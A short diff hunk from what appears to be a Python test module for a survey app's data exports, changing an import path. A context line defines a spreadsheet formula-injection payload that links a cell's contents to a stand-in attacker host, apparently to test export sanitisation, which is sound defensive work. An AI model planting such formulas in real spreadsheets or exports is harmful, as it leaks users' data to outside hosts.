@@ -18,8 +18,7 @@ from survey.extensions import db
 from survey.models import AuditLog, Response, Wave
 from survey.queries import exports
 from survey.queries.filters import Filters
-
-from .conftest import csrf_token, post, with_text_question
+from tests.helpers import csrf_token, post, with_text_question
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
